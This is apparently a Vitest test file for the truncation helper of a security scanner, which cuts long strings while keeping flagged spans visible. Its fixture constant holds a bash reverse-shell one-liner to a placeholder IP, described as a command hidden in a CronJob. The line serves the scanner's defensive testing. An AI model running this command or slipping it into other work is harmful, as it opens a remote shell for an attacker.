import { describe, expect, it } from 'vitest';
import { cutAround, cutMarker, markedCutBytes } from '../../src/findings/bound/cut-text.js';

/** A reverse shell in a CronJob's command, with padding an attacker adds to push it out of a cut row. */
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const COMMAND = `${'x'.repeat(500)}${SHELL}${'y'.repeat(500)}`;
const AT = [500, 500 + SHELL.length] as const;

describe('cutMarker', () => {
  it('counts the bytes cut, with thousands separators', () => {
    expect(cutMarker(7)).toBe('…[7 bytes cut]…');
    expect(cutMarker(812_345)).toBe('…[812,345 bytes cut]…');
  });
});

describe('cutAround', () => {
  it('a text whose JSON fits the cap exactly is kept whole; one byte less cuts it', () => {
    const text = 'a'.repeat(98);
    expect(cutAround(text, [], 100)).toBe(text);
    expect(cutAround(text, [], 99)).not.toBe(text);
  });

  it('without a span: keeps the head and says how much of the tail was cut', () => {
    const text = 'a'.repeat(1000);
    expect(cutAround(text, [], 200)).toBe(`${'a'.repeat(118)}…[882 bytes cut]…`);
  });

  it('one span: keeps it whole in the middle with as much context on each side', () => {
    expect(cutAround(COMMAND, [AT], 200)).toBe(
      `…[462 bytes cut]…${COMMAND.slice(462, 579)}…[462 bytes cut]…`,
    );
  });

  it('two spans far apart: keeps both with context, and marks the three pieces cut', () => {
    expect(
      cutAround(
        COMMAND,
        [
          [100, 110],
          [900, 910],
        ],
        200,
      ),
    ).toBe(
      `…[86 bytes cut]…${COMMAND.slice(86, 124)}…[762 bytes cut]…${COMMAND.slice(886, 924)}…[117 bytes cut]…`,
    );
  });

  it('overlapping and unsorted spans are one span', () => {
    const merged = cutAround(COMMAND, [AT], 200);
    expect(
      cutAround(
        COMMAND,
        [
          [520, AT[1]],
          [AT[0], 530],
        ],
        200,
      ),
    ).toBe(merged);
    expect(
      cutAround(
        COMMAND,
        [
          [520, AT[1]],
          [AT[0], 520],
        ],
        200,
      ),
    ).toBe(merged);
  });

  it('spans outside the text are clamped to it; a reversed span is ignored', () => {
    expect(cutAround('a'.repeat(1000), [[-50, -10]], 200)).toBe(`${'a'.repeat(118)}…[882 bytes cut]…`);
    expect(cutAround('a'.repeat(1000), [[5000, 6000]], 200)).toBe(`…[941 bytes cut]…${'a'.repeat(59)}`);
    expect(cutAround('a'.repeat(1000), [[600, 500]], 200)).toBe(`${'a'.repeat(118)}…[882 bytes cut]…`);
  });

  it('a span larger than the cap: keeps its start', () => {
    expect(cutAround(COMMAND, [[0, COMMAND.length]], 200)).toBe(`${'x'.repeat(118)}…[923 bytes cut]…`);
  });

  it('spans larger than the cap together: keeps the start of each while the room lasts', () => {
    const text = `${'a'.repeat(100)}-${'b'.repeat(100)}`;
    expect(
      cutAround(
        text,
        [
          [0, 100],
          [101, 201],
        ],
        200,
      ),
    ).toBe(`${'a'.repeat(78)}…[123 bytes cut]…`);
  });

  it('context is counted in escaped bytes: quotes before the match take two each', () => {
    const text = `${'"'.repeat(300)}MATCH${'a'.repeat(300)}`;
    expect(cutAround(text, [[300, 305]], 200)).toBe(
      `…[272 bytes cut]…${'"'.repeat(28)}MATCH${'a'.repeat(56)}…[244 bytes cut]…`,
    );
  });

  it('never splits a surrogate pair, and counts a pair as four bytes', () => {
    const clefs = '𝄞'.repeat(300);
    expect(cutAround(clefs, [], 100)).toBe(`${'𝄞'.repeat(4)}…[1,184 bytes cut]…`);
    expect(cutAround(clefs, [[100, 104]], 100)).toBe(`…[196 bytes cut]…${'𝄞'.repeat(4)}…[988 bytes cut]…`);
    // A span that starts and ends inside pairs (no regular expression match does) keeps no half of one.
    expect(cutAround(clefs, [[101, 103]], 100)).toBe('…[204 bytes cut]……[996 bytes cut]…');
  });

  it('a text cut before keeps counting: a dropped marker adds its own count', () => {
    const text = `${'a'.repeat(200)}${cutMarker(1000)}${'b'.repeat(100)}`;
    expect(cutAround(text, [], 100)).toBe(`${'a'.repeat(18)}…[1,282 bytes cut]…`);
  });

  it('a zero-length match at the start does not hide the other spans', () => {
    expect(cutAround(COMMAND, [[0, 0], AT], 200)).toBe(
      `${'x'.repeat(9)}…[482 bytes cut]…${COMMAND.slice(491, 550)}…[491 bytes cut]…`,
    );
  });

  it('a span at the very start: its context goes after it', () => {
    const text = `${SHELL}${'y'.repeat(1000)}`;
    expect(cutAround(text, [[0, SHELL.length]], 200)).toBe(`${SHELL}${'y'.repeat(38)}…[962 bytes cut]…`);
  });

  it('spans whose contexts overlap are kept as one piece', () => {
    expect(
      cutAround(
        COMMAND,
        [
          [500, 510],
          [530, 541],
        ],
        200,
      ),
    ).toBe(`…[486 bytes cut]…${COMMAND.slice(486, 555)}…[486 bytes cut]…`);
  });

  it('a cap with room for little besides the marker: shrinks the kept text until it fits, to the byte', () => {
    const text = 'a'.repeat(1000);
    // 24 bytes exactly: the quotes, one character and a marker of 21 bytes.
    expect(cutAround(text, [], 24)).toBe('a…[999 bytes cut]…');
    expect(cutAround(text, [], 30)).toBe('a…[999 bytes cut]…');
    expect(cutAround(text, [], 40)).toBe(`${'a'.repeat(16)}…[984 bytes cut]…`);
    expect(cutAround(COMMAND, [AT], 50)).toBe('…[500 bytes cut]…b…[540 bytes cut]…');
    expect(cutAround(COMMAND, [AT], 60)).toBe('…[500 bytes cut]…bash -i >& /dev/…[525 bytes cut]…');
  });

  it('text mixing one- and two-unit characters: context never takes half a pair', () => {
    const mixed = 'a𝄞'.repeat(300);
    expect(cutAround(mixed, [], 100)).toBe('a𝄞a𝄞a𝄞a…[1,484 bytes cut]…');
    expect(cutAround(mixed, [[300, 301]], 100)).toBe('…[495 bytes cut]…a𝄞a𝄞a…[994 bytes cut]…');
    expect(cutAround(mixed, [[301, 303]], 100)).toBe('…[495 bytes cut]…a𝄞a𝄞a𝄞a…[989 bytes cut]…');
    expect(cutAround(mixed, [[3, 4]], 100)).toBe('a𝄞a𝄞a…[1,489 bytes cut]…');
    expect(cutAround(mixed, [[897, 898]], 100)).toBe('…[1,490 bytes cut]…a𝄞a𝄞');
  });

  it('a cap too small for any context: the whole text becomes one marker', () => {
    expect(cutAround('a'.repeat(1000), [], 10)).toBe('…[1,000 bytes cut]…');
  });
});

describe('markedCutBytes', () => {
  it('is zero for a value never cut', () => {
    expect(markedCutBytes({ a: ['b', 1, null], c: 'bytes cut' })).toBe(0);
  });

  it('adds what the markers in every string say was cut, net of the markers themselves', () => {
    const marker1000 = cutMarker(1000);
    const marker5 = cutMarker(5);
    expect(markedCutBytes(`a${marker1000}b`)).toBe(1000 - Buffer.byteLength(marker1000));
    expect(markedCutBytes(['a', { x: marker5, y: [`a${marker1000}b`] }, 3, null])).toBe(
      1000 - Buffer.byteLength(marker1000) + 5 - Buffer.byteLength(marker5),
    );
  });
});
